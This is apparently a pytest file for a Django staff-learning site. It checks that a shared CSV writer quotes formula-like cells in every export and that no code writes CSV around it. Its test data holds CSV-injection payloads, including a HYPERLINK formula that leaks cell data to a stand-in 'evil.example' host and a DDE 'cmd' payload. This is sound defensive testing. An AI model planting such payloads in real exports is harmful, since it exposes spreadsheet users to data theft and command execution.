"""The shared CSV writer: formula-like text neutralised in every export, and no export that bypasses it."""

import csv
import inspect
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import transaction
from django.urls import URLResolver, get_resolver, reverse

from home.csv import FORMULA_PREFIXES, csv_response, csv_text, restore_cell, safe_cell

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = {
    "competency": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "area": "-1+2 Area",
    "role": "@SUM(1+1)",
    "department": "=1+1",
    "team": "+1 team",
    "first_name": "@SUM(A1:A9)",
    "job_title": "\tTabbed title",
    "course": "=cmd|' /C calc'!A0",
    "service_area": "-Highways North",
}


# --- The writer itself -----------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_starting_with_a_formula_character_is_quoted(prefix):
    assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, -3),  # a negative number stays a number
        (2.5, 2.5),
        (0, 0),
        (None, ""),
        ("Judging data quality", "Judging data quality"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
    ],
)
def test_other_values_are_written_as_they_are(value, written):
    assert safe_cell(value) == written


def test_csv_text_quotes_formulas_and_keeps_numbers():
    text = csv_text(["Name", "Score"], [["=2+3", -4], ["Plain", 7]])
    assert list(csv.reader(io.StringIO(text))) == [["Name", "Score"], ["'=2+3", "-4"], ["Plain", "7"]]
    assert text.endswith("\r\n")


def test_csv_response_is_an_attachment():
    response = csv_response("report.csv", ["A"], [["@x"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report.csv"'
    assert response.content.decode() == "A\r\n'@x\r\n"


def test_restore_undoes_the_quote_only_in_front_of_a_formula_character():
    assert restore_cell("'=1+1") == "=1+1"
    assert restore_cell("'quoted'") == "'quoted'"
    assert restore_cell(safe_cell("-minus")) == "-minus"


# --- Every CSV endpoint, with hostile values in the data -----------------------------------------------


def _model(name):
    """Find a model by class name, whichever app holds it (features move between apps)."""
    return next(m for m in apps.get_models() if m.__name__ == name)


@pytest.fixture(scope="module")
def _hostile_data(django_db_setup, django_db_blocker):
    """Built once for the module inside a transaction that is rolled back afterwards: the demo load is slow,
    and each test's own transaction nests inside this one, so no test sees another's writes."""
    with django_db_blocker.unblock(), transaction.atomic():
        yield _plant_hostile_values()
        transaction.set_rollback(True)


@pytest.fixture
def hostile_site(db, _hostile_data, client_for):
    users = _hostile_data["users"]
    return {**_hostile_data, "clients": {name: client_for(user) for name, user in users.items()}}


def _plant_hostile_values() -> dict:
    """The demo site with a formula planted in every kind of text an export writes."""
    from django.contrib.auth import get_user_model

    from competencies.models import Competency, CompetencyArea, RoleProfile
    from competencies.services import staff_profile_set
    from learning.models import CoursePage

    call_command("load_demo_content", stdout=io.StringIO())
    users = {
        role: get_user_model().objects.get(email=f"{role}@example.gov.uk")
        for role in ("learner", "champion", "hr", "admin")
    }
    competency = Competency.objects.published().order_by("code").first()
    Competency.objects.filter(pk=competency.pk).update(name=HOSTILE["competency"])
    CompetencyArea.objects.filter(pk=competency.area_id).update(name=HOSTILE["area"])
    role = (
        RoleProfile.objects.published()
        .jobs()
        .filter(requirements__competency=competency)
        .order_by("code")
        .first()
    )
    RoleProfile.objects.filter(pk=role.pk).update(job_title=HOSTILE["role"])
    learner = users["learner"]
    get_user_model().objects.filter(pk=learner.pk).update(
        first_name=HOSTILE["first_name"], job_title=HOSTILE["job_title"], department=HOSTILE["department"]
    )
    learner.refresh_from_db()
    staff_profile_set(user=learner, job_profile=role, governance_profiles=[], actor=None)
    closed_round = _model("AssessmentRound").objects.filter(closed_at__isnull=False).order_by("pk").first()
    team = closed_round.teams.order_by("pk").first()
    _model("MaturityTeam").objects.filter(pk=team.pk).update(name=HOSTILE["team"])
    champion_profile = _model("ChampionProfile").objects.filter(is_active=True).order_by("pk").first()
    _model("ChampionProfile").objects.filter(pk=champion_profile.pk).update(
        service_area=HOSTILE["service_area"]
    )
    course = CoursePage.objects.live().order_by("path").first()
    CoursePage.objects.filter(pk=course.pk).update(title=HOSTILE["course"])
    area = _model("ServiceArea").objects.filter(teams__members__isnull=False).order_by("pk").first()
    _model("ServiceArea").objects.filter(pk=area.pk).update(name=HOSTILE["service_area"])
    # The line manager's team download names the people in the staff list.
    _model("StaffRecord").objects.filter(line_manager__user=users["champion"]).update(
        name=HOSTILE["first_name"]
    )
    return {
        "users": users,
        "round": closed_round,
        "team": team,
        "role": role,
        "course": course,
    }


# URL name → (who downloads it, URL kwargs, query, the hostile values the file must hold, neutralised).
ENDPOINTS = {
    "competencies:report_heatmap": (
        "hr",
        lambda s: {},
        {"download": "csv"},
        ["competency", "department"],
    ),
    "competencies:report_service_area": (
        "hr",
        lambda s: {},
        {"download": "csv", "area": HOSTILE["department"]},
        ["competency", "role"],
    ),
    "competencies:export_competencies": ("learner", lambda s: {}, {}, ["competency", "area"]),
    "competencies:export_roles": ("learner", lambda s: {}, {}, ["role"]),
    "competencies:role_export": ("learner", lambda s: {"code": s["role"].code}, {}, ["role"]),
    "maturity:council_report_csv": ("hr", lambda s: {"pk": s["round"].pk}, {}, ["team"]),
    "maturity:team_result_csv": (
        "hr",
        lambda s: {"pk": s["round"].pk, "slug": s["team"].slug},
        {},
        ["team"],
    ),
    "champions:coverage_csv": ("hr", lambda s: {}, {}, ["competency", "department", "service_area"]),
    "assignments:compliance": ("hr", lambda s: {}, {"download": "csv"}, ["service_area"]),
    "assignments:my_team": ("champion", lambda s: {}, {"download": "csv"}, ["first_name"]),
    "learning_reports:csv": ("admin", lambda s: {"course_id": s["course"].pk}, {}, ["course"]),
    "home:your_data_download": ("learner", lambda s: {}, None, ["first_name", "job_title", "department"]),
}


def _csv_files(response) -> dict[str, list[list[str]]]:
    if response["Content-Type"] == "application/zip":
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode(), newline="")))
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return {"download": list(csv.reader(io.StringIO(response.content.decode(), newline="")))}


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


@pytest.mark.parametrize("url_name", sorted(ENDPOINTS))
def test_every_csv_export_neutralises_formulas(hostile_site, url_name):
    who, kwargs, query, planted = ENDPOINTS[url_name]
    client = hostile_site["clients"][who]
    url = reverse(url_name, kwargs=kwargs(hostile_site))
    response = client.post(url) if query is None else client.get(url, query)
    assert response.status_code == 200
    files = _csv_files(response)
    cells = [cell for rows in files.values() for row in rows for cell in row]
    live = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
    assert not live, f"{url_name} writes cells a spreadsheet runs as formulas: {live}"
    for key in planted:  # the planted text is there (and, by the check above, quoted where it starts a cell)
        assert any(HOSTILE[key] in cell for cell in cells), f"{url_name} lacks the {key} ({HOSTILE[key]!r})"
    assert any(cell.startswith("'") for cell in cells)


def test_heatmap_counts_are_numbers_in_columns_of_their_own(hostile_site):
    response = hostile_site["clients"]["hr"].get(reverse("competencies:report_heatmap"), {"download": "csv"})
    rows = _csv_files(response)["download"]
    assert rows[0][:2] == ["Service area", "Staff"]
    assert rows[0][2].endswith(": staff at required level") and rows[0][3].endswith(": staff needing it")
    counts = [cell for row in rows[1:] for cell in row[2:] if cell]
    assert counts and all(cell.isdigit() for cell in counts)  # never "1/5", which Excel opens as a date


NOT_EXPORTS = {"jupyterlite:dataset_csv"}  # a dataset file as uploaded, for the lab (see ALLOWED below)


def _routes(patterns, namespace=""):
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _routes(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
        elif p.name:
            yield f"{namespace}{p.name}", p


def test_every_csv_view_is_in_the_hostile_test():
    """A view that mentions CSV (or the personal-data zip) must be listed in ENDPOINTS, so it gets tested."""
    found = set()
    for name, pattern in _routes(get_resolver().url_patterns):
        func = inspect.unwrap(pattern.callback)
        if not func.__module__.startswith(
            ("home.", "learning.", "competencies.", "community.", "jupyterlite.")
        ):
            continue
        source = inspect.getsource(func)
        if re.search(r"csv_response\(|_csv\(|export_zip\(", source) or "csv" in str(pattern.pattern):
            found.add(name)
    assert found - NOT_EXPORTS == set(ENDPOINTS)


# --- Nothing writes CSV around the shared writer -----------------------------------------------------

# Files that may name the csv module's writers or the CSV content type, and why.
ALLOWED = {
    "home/csv.py": "the shared writer",
    "jupyterlite/views.py": "serves a dataset file as an admin uploaded it: data for the lab, not an export",
    "jupyterlite/lab/serve.py": "the content type of static .csv files in the lab build",
    "jupyterlite/sample_data/__init__.py": "builds the fixed teaching datasets the lab reads, not an export",
}
FORBIDDEN = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")


def _source_files():
    for app in ("home", "learning", "competencies", "community", "jupyterlite", "config"):
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path


def test_no_csv_is_written_without_the_shared_writer():
    offenders = [
        f"{path.relative_to(ROOT)}:{n}: {line.strip()}"
        for path in _source_files()
        if str(path.relative_to(ROOT)) not in ALLOWED
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if FORBIDDEN.search(line)
    ]
    assert not offenders, "Write CSV with home.csv (csv_response / csv_text):\n" + "\n".join(offenders)


def test_the_guard_catches_a_hand_made_writer():
    assert FORBIDDEN.search("writer = csv.writer(response)")
    assert FORBIDDEN.search('HttpResponse(text, content_type="text/csv")')
    assert not FORBIDDEN.search("return csv_response(filename, header, rows)")
